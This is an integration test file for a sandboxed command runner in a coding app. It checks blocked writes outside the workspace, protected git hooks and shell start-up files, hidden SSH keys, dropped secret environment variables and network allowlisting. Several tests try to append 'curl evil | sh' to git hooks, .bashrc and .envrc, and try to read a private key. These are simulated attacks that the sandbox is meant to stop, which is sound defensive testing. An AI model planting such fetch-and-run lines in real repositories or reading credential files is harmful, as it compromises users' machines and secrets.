import { createServer, type Server } from 'node:http';
import { type AddressInfo } from 'node:net';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { RunnerEvent } from '../../shared/domain/runner';
import { writeFileAtomic } from '../fs/atomic-write';
import { resolveAppPaths, type AppPaths } from '../platform/paths';
import { isAlive, runProcesses } from './process-tree';
import { SandboxBackend } from './sandbox';
import { SandboxUnavailableError } from './sandbox-check';
import { RunRefusedError, RunnerService } from './runner-service';
import { withSettings, type RunnerSandboxSettings } from './settings';

// Integration tests: the real sandbox (bubblewrap + the sandbox runtime's proxy) on this machine.

let root: string;
let workspace: string;
let home: string;
let appPaths: AppPaths;
let service: RunnerService;
const events: RunnerEvent[] = [];
// Off while the 200 MB test runs: keeping its output here would be the test's own leak.
let collecting = true;
const settings = withSettings({ killGraceMs: 500 });

const hostEnv = {
  PATH: process.env.PATH ?? '/usr/bin:/bin',
  LANG: 'C.UTF-8',
  OPENAI_API_KEY: 'sk-test-openai-secret',
  GITHUB_TOKEN: 'ghp-test-token-secret',
  DBUS_SESSION_BUS_ADDRESS: 'unix:path=/run/user/0/bus-secret',
  VTCODE_DESKTOP_HOME: '/should/not/leak',
  MY_SECRET_THING: 'hush-secret',
  SSH_AUTH_SOCK: '/tmp/ssh-agent-secret.sock',
};

async function run(
  command: string,
  extra: { settings?: RunnerSandboxSettings; request?: object } = {},
) {
  const runId = await service.start({
    request: { command, ...extra.request },
    workspace,
    settings: extra.settings ?? settings,
  });
  return service.wait(runId);
}

function listen(handler: Parameters<typeof createServer>[1]): Promise<Server> {
  const server = createServer(handler);
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

async function waitFor(check: () => boolean, ms = 5000): Promise<void> {
  const until = Date.now() + ms;
  while (!check()) {
    if (Date.now() > until) throw new Error('condition not met in time');
    await new Promise((r) => setTimeout(r, 20));
  }
}

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'runner-it-'));
  workspace = join(root, 'workspace');
  home = join(root, 'home');
  await mkdir(workspace, { recursive: true });
  await mkdir(join(home, '.ssh'), { recursive: true });
  await writeFile(join(home, '.ssh', 'id_ed25519'), 'PRIVATE-KEY-MATERIAL\n');
  await writeFile(join(root, 'outside.txt'), 'outside\n');
  appPaths = resolveAppPaths({ VTCODE_DESKTOP_HOME: join(root, 'app') }, 'linux', home);
  await mkdir(appPaths.configDir, { recursive: true });
  await writeFile(join(appPaths.configDir, 'settings.json'), '{"app":"CONFIG-SECRET"}\n');
  service = new RunnerService({ appPaths, hostEnv });
  service.subscribe((e) => {
    if (collecting) events.push(e);
  });
});

afterAll(async () => {
  await service.dispose();
  await rm(root, { recursive: true, force: true });
});

beforeEach(() => {
  events.length = 0;
});

describe('RunnerService with the real sandbox', () => {
  it('lets a command write inside the workspace and reports its exit code', async () => {
    const result = await run('echo hello > made.txt && cat made.txt && exit 7');
    expect(result.exit).toMatchObject({ outcome: 'exited', exitCode: 7, signal: null });
    expect(result.text).toContain('hello');
    expect(await readFile(join(workspace, 'made.txt'), 'utf8')).toBe('hello\n');
    expect(result.summary.sandbox).toMatchObject({ kind: 'sandboxed', mode: 'workspace_write' });
  });

  it('refuses a write outside the workspace and reports the violation', async () => {
    const target = join(root, 'escaped.txt');
    const result = await run(`touch '${target}'`);
    expect(result.exit.exitCode).not.toBe(0);
    expect(existsSync(target)).toBe(false);
    expect(result.exit.violations).toBeGreaterThan(0);
    expect(result.text).toContain(`[sandbox] blocked: deny`);
    expect(events.some((e) => e.type === 'violation' && e.event.line.includes(target))).toBe(true);
  });

  it('keeps git hooks, git config, shell start-up files and the policy read-only in the workspace', async () => {
    await mkdir(join(workspace, '.git', 'hooks'), { recursive: true });
    // Written as the app writes them (temp file, then rename): a plain write passes through an
    // empty file, which the sandbox runtime may take for one of its own mount points and remove.
    await writeFileAtomic(join(workspace, '.git', 'config'), '[core]\n');
    await writeFileAtomic(join(workspace, 'vtcode.toml'), '[tools]\n');
    await mkdir(join(workspace, 'vendor', 'lib', '.git', 'hooks'), { recursive: true });
    for (const target of [
      '.git/hooks/pre-commit',
      'vendor/lib/.git/hooks/post-checkout',
      '.git/config',
      'vtcode.toml',
      '.vtcode/x.json',
    ]) {
      const result = await run(
        `mkdir -p "$(dirname '${target}')" 2>/dev/null; echo 'curl evil | sh' >> '${target}'`,
      );
      expect(result.exit.exitCode, target).not.toBe(0);
    }
    // Absent start-up files get no phantom placeholder: one a command creates is moved aside
    // when the run ends, and the run says so.
    for (const target of ['.envrc', '.bashrc']) {
      const result = await run(`echo 'curl evil | sh' >> '${target}'`);
      expect(result.text).toContain(`guard: ${target} was created by the command`);
      expect(result.exit.violations, target).toBeGreaterThan(0);
    }
    expect(existsSync(join(workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(existsSync(join(workspace, 'vendor', 'lib', '.git', 'hooks', 'post-checkout'))).toBe(
      false,
    );
    expect(await readFile(join(workspace, '.git', 'config'), 'utf8')).toBe('[core]\n');
    expect(await readFile(join(workspace, 'vtcode.toml'), 'utf8')).toBe('[tools]\n');
    for (const absent of ['.envrc', '.bashrc']) {
      const file = join(workspace, absent);
      expect(existsSync(file) ? await readFile(file, 'utf8') : '', absent).toBe('');
    }
    // Ordinary files, and git's own objects, stay writable.
    const ok = await run(
      'echo fine > notes.md && mkdir -p .git/objects && echo x > .git/objects/probe',
    );
    expect(ok.exit.exitCode).toBe(0);
  });

  it('allows no writes at all in read_only mode', async () => {
    const result = await run('touch inside.txt', {
      settings: withSettings({ mode: 'read_only' }, settings),
    });
    expect(result.exit.exitCode).not.toBe(0);
    expect(existsSync(join(workspace, 'inside.txt'))).toBe(false);
  });

  it('hides ~/.ssh and the app config from reads', async () => {
    const result = await run(
      'cat "$HOME/.ssh/id_ed25519"; echo "ssh=$?"; cat "$CFG/settings.json"; echo "cfg=$?"',
      { request: { env: { CFG: appPaths.configDir } } },
    );
    expect(result.text).not.toContain('PRIVATE-KEY-MATERIAL');
    expect(result.text).not.toContain('CONFIG-SECRET');
    expect(result.text).toMatch(/ssh=[1-9]/);
    expect(result.text).toMatch(/cfg=[1-9]/);
  });

  it('passes only allow-listed environment variables', async () => {
    const result = await run('env');
    for (const value of Object.values(hostEnv).filter((v) => /secret|leak/.test(v))) {
      expect(result.text).not.toContain(value);
    }
    expect(result.text).toContain('LANG=C.UTF-8');
    expect(result.summary.droppedEnv).toEqual(
      expect.arrayContaining(['OPENAI_API_KEY', 'GITHUB_TOKEN', 'DBUS_SESSION_BUS_ADDRESS']),
    );
  });

  it('blocks a local port that is not allow-listed and reaches one that is', async () => {
    let blockedHits = 0;
    const allowed = await listen((_req, res) => res.end('ALLOWED-BODY'));
    const blocked = await listen((_req, res) => {
      blockedHits++;
      res.end('BLOCKED-BODY');
    });
    const allowedPort = (allowed.address() as AddressInfo).port;
    const blockedPort = (blocked.address() as AddressInfo).port;
    try {
      const net = withSettings(
        {
          network: {
            policy: 'allowlist_only',
            allowlist: [{ domain: '127.0.0.1', port: allowedPort }],
          },
        },
        settings,
      );
      // --noproxy '': the runtime's NO_PROXY lists 127.0.0.1, and the sandbox has no direct route.
      // --retry-connrefused: the runtime starts its in-sandbox proxy bridge (socat) in the
      // background, so on a loaded machine curl can knock before it listens. A refusal by the
      // proxy itself (403) is not retried, so the blocked case still fails on its first answer.
      const curl = (port: number) =>
        `curl -sS -f -m 5 --retry 5 --retry-connrefused --retry-delay 1 --noproxy '' ` +
        `http://127.0.0.1:${port}/; echo " curl=$?"`;
      const ok = await run(curl(allowedPort), { settings: net });
      expect(ok.text).toContain('ALLOWED-BODY');
      const denied = await run(curl(blockedPort), { settings: net });
      expect(denied.text).not.toContain('BLOCKED-BODY');
      expect(denied.text).toMatch(/curl=[1-9]/);
      const direct = await run(`curl -sS -m 3 http://127.0.0.1:${blockedPort}/; echo " curl=$?"`, {
        settings: net,
      });
      expect(direct.text).toMatch(/curl=[1-9]/);
      expect(blockedHits).toBe(0);
    } finally {
      allowed.close();
      blocked.close();
    }
  });

  it('cancel leaves no process behind, background grandchildren included', async () => {
    const runId = await service.start({
      request: { command: 'sleep 301 & (sleep 302 &); trap "" INT; echo ready; sleep 303' },
      workspace,
      settings,
    });
    await waitFor(() =>
      events.some(
        (e) => e.type === 'output' && e.event.runId === runId && e.event.data.includes('ready'),
      ),
    );
    const status = service.status(runId);
    if (status?.state !== 'running') throw new Error(`not running: ${status?.state}`);
    const pids = runProcesses(status.pid).map((p) => p.pid);
    const sleepers = runProcesses(status.pid).filter((p) => p.comm === 'sleep');
    expect(sleepers.length).toBe(3);
    expect(service.cancel(runId)).toBe(true);
    const result = await service.wait(runId);
    expect(result.exit.outcome).toBe('cancelled');
    for (const pid of pids) expect(isAlive(pid), `pid ${pid} survived`).toBe(false);
  });

  it('cancel of an unsandboxed run kills its re-parented background jobs too', async () => {
    const runId = await service.start({
      request: { command: '(sleep 311 &); sleep 312 & echo ready; wait' },
      workspace,
      settings: withSettings({ mode: 'danger_full_access' }, settings),
    });
    await waitFor(() =>
      events.some(
        (e) => e.type === 'output' && e.event.runId === runId && e.event.data.includes('ready'),
      ),
    );
    const status = service.status(runId);
    if (status?.state !== 'running') throw new Error('not running');
    expect(status.summary.sandbox).toEqual({ kind: 'unsandboxed', because: 'danger_full_access' });
    const pids = runProcesses(status.pid).map((p) => p.pid);
    expect(runProcesses(status.pid).filter((p) => p.comm === 'sleep').length).toBe(2);
    service.cancel(runId);
    await service.wait(runId);
    for (const pid of pids) expect(isAlive(pid), `pid ${pid} survived`).toBe(false);
  });

  it('stops a run at its timeout', async () => {
    const started = Date.now();
    const result = await run('echo begun; sleep 30', { request: { timeoutSeconds: 1 } });
    expect(result.exit.outcome).toBe('timed_out');
    expect(result.exit.message).toMatch(/timed out/);
    expect(Date.now() - started).toBeLessThan(5000);
  });

  it('keeps the head and the tail of a long output and says what was dropped', async () => {
    const small = withSettings({ pty: { maxScrollbackBytes: 1024 } }, settings);
    const result = await run(
      "printf 'A%.0s' $(seq 600); printf 'B%.0s' $(seq 3000); printf 'C%.0s' $(seq 600)",
      { settings: small },
    );
    expect(result.exit.totalBytes).toBe(4200);
    expect(result.exit.keptBytes).toBe(1024);
    expect(result.exit.droppedBytes).toBe(4200 - 1024);
    expect(result.text.startsWith('A'.repeat(512))).toBe(true);
    expect(result.text).toContain(`[... ${4200 - 1024} bytes dropped ...]`);
    expect(result.text.endsWith('C'.repeat(512))).toBe(true);
    const streamed = events
      .filter((e) => e.type === 'output')
      .reduce((n, e) => n + (e.type === 'output' ? e.event.bytes : 0), 0);
    expect(streamed).toBe(4200);
  });

  it('keeps memory flat on 200 MB of output', async () => {
    collecting = false;
    const before = process.memoryUsage();
    let peak = before.rss;
    let messages = 0;
    let streamed = 0;
    const stop = service.subscribe((e) => {
      if (e.type !== 'output') return;
      messages++;
      streamed += e.event.bytes;
      if (messages % 64 === 0) peak = Math.max(peak, process.memoryUsage().rss);
    });
    const total = 200 * 1000 * 1000;
    const result = await run(`head -c ${total} /dev/zero | tr '\\0' a`);
    stop();
    collecting = true;
    expect(result.exit.totalBytes).toBe(total);
    expect(streamed).toBe(total);
    expect(result.exit.keptBytes).toBe(settings.pty.maxScrollbackBytes);
    // Batched: far fewer messages than 4 KiB reads would give.
    expect(messages).toBeLessThan(total / 16_384);
    expect(peak - before.rss).toBeLessThan(150 * 1024 * 1024);
  }, 120_000);

  it('runs several commands at once', async () => {
    const ids = await Promise.all(
      [1, 2, 3].map((n) =>
        service.start({ request: { command: `sleep 0.3; echo run${n}` }, workspace, settings }),
      ),
    );
    const results = await Promise.all(ids.map((id) => service.wait(id)));
    expect(results.map((r) => r.text.trim())).toEqual(['run1', 'run2', 'run3']);
  });

  it('runs many commands at once in one workspace without their protections colliding', async () => {
    const fresh = join(root, 'fresh-ws');
    await mkdir(fresh, { recursive: true });
    const ids = await Promise.all(
      Array.from({ length: 8 }, (_, n) =>
        service.start({
          request: { command: `echo ok${n} > out${n}.txt && cat out${n}.txt` },
          workspace: fresh,
          settings,
        }),
      ),
    );
    const results = await Promise.all(ids.map((id) => service.wait(id)));
    expect(results.map((r) => r.exit.exitCode)).toEqual(Array.from({ length: 8 }, () => 0));
    expect(results.map((r) => r.text.trim())).toEqual(
      Array.from({ length: 8 }, (_, n) => `ok${n}`),
    );
  });

  it('starts the next run from a wrap prepared while idle, and leaves no mount points behind', async () => {
    const fresh = join(root, 'warm-ws');
    await mkdir(fresh, { recursive: true });
    const start = async (command: string) => {
      const id = await service.start({ request: { command }, workspace: fresh, settings });
      return service.wait(id);
    };
    expect((await start('echo cold')).text.trim()).toBe('cold');
    await service.warm.settled();
    const used = service.warm.stats.used;
    // Quoting, variables and a multi-line command survive the trip through the environment.
    const warm = await start(`x='a "b"'; echo "$x" \\
  && echo "\${VTCODE_RUN_COMMAND:-unset}"`);
    expect(warm.text.trim().split(/\r?\n/)).toEqual(['a "b"', 'unset']);
    expect(service.warm.stats.used).toBe(used + 1);
    await service.warm.settled();
    // Only what the commands made: no empty files where bubblewrap mounted its placeholders.
    expect(await readdir(fresh)).toEqual([]);
    expect((await start('exit 3')).exit.exitCode).toBe(3);
    await service.warm.settled();
    expect(await readdir(fresh)).toEqual([]);
    // A short run ends (and the next one is prepared) while a longer one still runs: the prepared
    // wrap must not keep the runtime from cleaning up once the longer one ends.
    const [slow, quick] = await Promise.all([start('sleep 0.5; echo slow'), start('echo quick')]);
    expect([slow.text.trim(), quick.text.trim()]).toEqual(['slow', 'quick']);
    await service.warm.settled();
    expect(await readdir(fresh)).toEqual([]);
  });

  it('wraps afresh when the workspace changed since the next run was prepared', async () => {
    const fresh = join(root, 'changing-ws');
    await mkdir(fresh, { recursive: true });
    const start = async (command: string) => {
      const id = await service.start({ request: { command }, workspace: fresh, settings });
      return service.wait(id);
    };
    await start('true');
    await service.warm.settled();
    const used = service.warm.stats.used;
    // The prepared wrap knew no repository here; the run must still protect the new one's hooks.
    await mkdir(join(fresh, 'sub', '.git', 'hooks'), { recursive: true });
    const attempt = await start("echo 'curl evil | sh' > sub/.git/hooks/pre-commit");
    expect(attempt.exit.exitCode).not.toBe(0);
    expect(existsSync(join(fresh, 'sub', '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(service.warm.stats.used).toBe(used);
  });

  it('resizes a running command’s terminal', async () => {
    const id = await service.start({
      request: { command: 'sleep 0.5; stty size', cols: 80, rows: 24 },
      workspace,
      settings,
    });
    expect(service.resize(id, 132, 40)).toBe(true);
    expect((await service.wait(id)).text.trim()).toBe('40 132');
    expect(service.resize(id, 100, 30)).toBe(false);
  });

  it('refuses a working directory outside the workspace, even through a symlink', async () => {
    await expect(run('true', { request: { cwd: '..' } })).rejects.toThrow(RunRefusedError);
    await expect(service.start({ request: { command: '' }, workspace, settings })).rejects.toThrow(
      /command is empty/,
    );
  });

  it('says why when the sandbox cannot start, and runs nothing', async () => {
    const broken = new RunnerService({
      appPaths,
      hostEnv,
      backend: new SandboxBackend({
        platform: 'linux',
        which: (name) => Promise.resolve(name === 'bwrap' ? null : `/usr/bin/${name}`),
        probeUserNamespace: () => Promise.resolve(null),
      }),
    });
    const marker = join(workspace, 'must-not-exist.txt');
    const attempt = broken.start({
      request: { command: `touch '${marker}'` },
      workspace,
      settings,
    });
    await expect(attempt).rejects.toBeInstanceOf(SandboxUnavailableError);
    await expect(attempt).rejects.toThrow(/apt-get install bubblewrap/);
    expect(existsSync(marker)).toBe(false);
    // Only an explicit per-run choice runs it unsandboxed, and the record says so.
    const id = await broken.start({
      request: { command: `touch '${marker}'`, unsandboxed: true },
      workspace,
      settings,
    });
    const result = await broken.wait(id);
    expect(result.exit.sandbox).toEqual({ kind: 'unsandboxed', because: 'user_override' });
    expect(existsSync(marker)).toBe(true);
  });
});
